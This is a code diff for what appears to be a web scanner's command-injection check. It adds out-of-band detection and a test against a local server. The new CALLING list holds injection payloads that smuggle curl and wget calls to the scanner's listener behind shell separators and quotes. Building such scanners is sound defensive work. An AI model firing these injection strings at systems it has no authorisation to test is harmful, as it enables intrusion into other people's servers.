@@ -5,8 +5,9 @@ use futures_util::future::BoxFuture;
 
 use super::facts::facts;
 use super::messages::Family;
-use super::{computed, timing};
-use crate::checks::{About, Bench, Check, Entry};
+use super::{called, computed, timing};
+use crate::checks::run::points_of;
+use crate::checks::{About, Bench, Check, Entry, callback};
 use crate::point::{Place, Point};
 
 /// See [`About`].
@@ -22,7 +23,7 @@ static ABOUT: About = About {
              go into a command, allow only values from a fixed list.",
     technique: "A small calculation is put in behind the signs that separate commands, within and without quotes; its result \
                 must be shown, and another calculation must not show it. Where nothing is shown, the command waits, several \
-                times in turn with one that does not.",
+                times in turn with one that does not, or it calls the listener of the scanner.",
     source: "CWE-78",
 };
 
@@ -65,6 +66,15 @@ const WAITING: &[&str] = &[
     "{v}|sleep${IFS}{t}",
 ];
 
+/// What calls the listener, with whatever program is there for it.
+const CALLING: &[&str] = &[
+    "{v};curl -sm3 {u}||wget -qT3 -O- {u};#';curl -sm3 {u}||wget -qT3 -O- {u};#\";curl -sm3 {u}||wget -qT3 -O- {u};#",
+    "{v}$(curl -sm3 {u}||wget -qT3 -O- {u})",
+    "{v}|curl -sm3 {u} #'|curl -sm3 {u} #\"|curl -sm3 {u} #",
+    "{v}\ncurl -sm3 {u}||wget -qT3 -O- {u}\n",
+    "{v}&curl -sm3 {u}&\"&curl -sm3 {u}&",
+];
+
 impl Check for Command {
     fn about(&self) -> &'static About {
         &ABOUT
@@ -78,6 +88,11 @@ impl Check for Command {
     ) -> Option<BoxFuture<'a, ()>> {
         Some(probe(bench, entry, point).boxed())
     }
+
+    fn try_site<'a>(&'a self, bench: &'a Bench<'a>) -> Option<BoxFuture<'a, ()>> {
+        bench.listener?;
+        Some(late(bench).boxed())
+    }
 }
 
 async fn probe(bench: &Bench<'_>, entry: &Entry, point: &Point) {
@@ -90,18 +105,40 @@ async fn probe(bench: &Bench<'_>, entry: &Entry, point: &Point) {
     let mut found = computed::prove_first(bench, entry, point, &shown).await;
     if found.is_none() && (!is_quiet || known.errors.contains(&Family::Shell) || !known.echoes) {
         found = timing::prove_first(bench, entry, point, WAITING).await;
+        if found.is_none() {
+            found = called::prove_first(bench, entry, point, CALLING).await;
+        }
     }
     if let Some((payload, proof)) = found {
         bench.report_at(990_004, entry, Some((point, &payload)), proof);
     }
 }
 
+/// Commands that run when the answer was long given.
+async fn late(bench: &Bench<'_>) {
+    callback::wait(bench).await;
+    for entry in bench.entries {
+        for point in points_of(entry, bench) {
+            let Some(template) = called::late(bench, entry, &point, CALLING) else { continue };
+            if bench.sink.has_at(&[990_004], &entry.request.url.path, &point.name) {
+                continue;
+            }
+            if let Some((payload, proof)) = called::prove(bench, entry, &point, template).await {
+                bench.report_at(990_004, entry, Some((&point, &payload)), proof);
+            }
+        }
+    }
+}
+
 #[cfg(test)]
 mod tests {
+    use std::net::IpAddr;
     use std::process::Command as Process;
 
     use super::*;
-    use crate::testing::{Answer, Asked, scan, serve};
+    use crate::http::{Request, Target};
+    use crate::listener::CallbackListener;
+    use crate::testing::{Answer, Asked, Extras, scan, scan_with, serve};
 
     fn shell(line: &str) -> String {
         let output = Process::new("sh").arg("-c").arg(line).output().unwrap();
@@ -125,6 +162,13 @@ mod tests {
                 shell(&format!("echo {host}"));
                 "done".to_owned()
             }
+            // A job takes it up later: neither an output nor a wait.
+            "/queued" | "/slow-queue" => {
+                let wait = if asked.path == "/queued" { "" } else { "sleep 0.3; " };
+                let job = format!("({wait}echo {host}) >/dev/null 2>&1 &");
+                shell(&job);
+                "queued".to_owned()
+            }
             "/checked" => shell(&format!("echo looking for {plain}")),
             "/argument" => String::from_utf8_lossy(&Process::new("echo").arg(&host).output().unwrap().stdout)
                 .replace('<', "&lt;"),
@@ -142,6 +186,18 @@ mod tests {
         }
         for path in ["/checked", "/argument", "/echo"] {
             assert!(scan(&Command, server, &format!("{path}?host=a.test")).await.is_empty(), "{path}");
+        }
+    }
+
+    #[tokio::test]
+    async fn commands_of_jobs_are_found_by_their_calls() {
+        let server = serve(answer).await;
+        let listener = CallbackListener::start(IpAddr::from([127, 0, 0, 1])).await.unwrap();
+        for (path, wanted) in [("/queued", 1), ("/slow-queue", 1), ("/checked", 0), ("/argument", 0)] {
+            let url = Target::parse(&format!("http://{server}{path}?host=a.test")).unwrap();
+            let extras = Extras { listener: Some(&listener), ..Extras::default() };
+            let (found, _) = scan_with(&Command, vec![Request::get(url)], extras).await;
+            assert_eq!(found.iter().filter(|found| found.qid == 990_004).count(), wanted, "{path}");
         }
     }
 }
